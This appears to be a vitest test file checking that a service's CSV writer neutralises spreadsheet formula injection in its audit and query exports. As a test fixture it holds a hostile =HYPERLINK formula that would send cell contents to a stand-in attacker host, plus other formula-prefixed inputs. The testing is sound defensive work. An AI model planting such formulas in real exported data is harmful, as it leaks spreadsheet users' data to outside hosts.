// THE CSV writer (src/lib/csv.ts, on csv-stringify): formula injection neutralised (OWASP) in every CSV svc writes — the
// service's audit export and the client's query export — and no other module writes CSV fields of its own.
import {readdirSync, readFileSync} from 'node:fs';
import {join, relative, resolve} from 'node:path';
import {describe, expect, it} from 'vitest';
import {csvField, csvRecord, csvRecords} from '../../src/lib/csv.js';
import {insertAuditEvent} from '../../src/server/store/audit.js';
import {rowsToCsv} from '../../src/workflows/query.js';
import {parseCsv} from '../helpers/csv.js';
import {testAppEach} from '../helpers/startService.js';

const QUOTED = '"a ""quote"""';
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"open")';

describe('csvField', () => {
  it.each([
    [HOSTILE, `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTAB', "'\tTAB"],
    ['\r=1', `"'\r=1"`],
    ['plain, with comma', '"plain, with comma"'],
    ['a@b.example', 'a@b.example'],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ['two\nlines', '"two\nlines"'],
    ['a "quote"', QUOTED],
    ['-12.5', '-12.5'],
    ['+3e4', '+3e4'],
    ['', ''],
  ])('%j → %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('a neutralised cell reads back as the text with its leading quote, nothing else changed', () => {
    expect(parseCsv(csvRecord([HOSTILE, 'x']))).toEqual([[`'${HOSTILE}`, 'x']]);
  });

  it('records are CRLF-terminated, empty cells stay empty, nothing is quoted that need not be', () => {
    expect(csvRecords([['id', 'name'], ['1', ''], ['', 'b,c']])).toBe('id,name\r\n1,\r\n,"b,c"\r\n');
    expect(csvRecords([])).toBe('');
  });
});

describe("the tests' CSV reader (test/helpers/csv.ts, on csv-parse)", () => {
  it('reads what RFC 4180 allows and throws on what a sloppy writer makes', () => {
    expect(parseCsv('a,"b\r\nc"\r\n"x""y",\r\n')).toEqual([['a', 'b\r\nc'], ['x"y', '']]);
    for (const sloppy of ['a,b', 'a,"b"c\r\n', 'a,b"c\r\n', 'a\nb\r\n', 'a\rb\r\n', 'a,b\r\nc\r\n', '"a\r\n']) {
      expect(() => parseCsv(sloppy), JSON.stringify(sloppy)).toThrow();
    }
  });
});

describe('every CSV svc writes', () => {
  const t = testAppEach();

  it('the audit export neutralises a formula in user_email (before: the cell started with =HYPERLINK)', async () => {
    insertAuditEvent(t.ctx.db, {name: 'apiKey.create', userEmail: HOSTILE, createdAt: t.clock.now(), ip: null, data: {note: '@cmd'}});
    const res = await t.app.request('/api/v1/audit-logs/export', {headers: {authorization: `Bearer ${t.adminKey}`}});
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    const row = rows.find((r) => r[3]?.includes('HYPERLINK'));
    expect(row?.[3]).toBe(`'${HOSTILE}`);
    expect(rows.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell) || /^[-+]?\d/.test(cell)))).toBe(true);
  });

  it('the query export neutralises formulas and keeps numbers', () => {
    const csv = rowsToCsv(['users.email', 'orders.total'], [{'users.email': HOSTILE, 'orders.total': -12.5}, {'users.email': '@x', 'orders.total': 3}]);
    expect(parseCsv(csv)).toEqual([
      ['users.email', 'orders.total'],
      [`'${HOSTILE}`, '-12.5'],
      ["'@x", '3'],
    ]);
  });

  it('no other module quotes CSV fields itself or calls csv-stringify', () => {
    const root = resolve(import.meta.dirname, '../..');
    const walk = (d: string): string[] => readdirSync(d, {withFileTypes: true}).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : /\.tsx?$/.test(e.name) ? [join(d, e.name)] : []));
    const others = [...walk(join(root, 'src')), ...walk(join(root, 'screens'))].filter((f) => relative(root, f) !== 'src/lib/csv.ts');
    const quoting = others.filter((f) => /\[",\\r\\n\]|from 'csv-stringify/.test(readFileSync(f, 'utf8'))).map((f) => relative(root, f));
    expect(quoting).toEqual([]);
  });
});
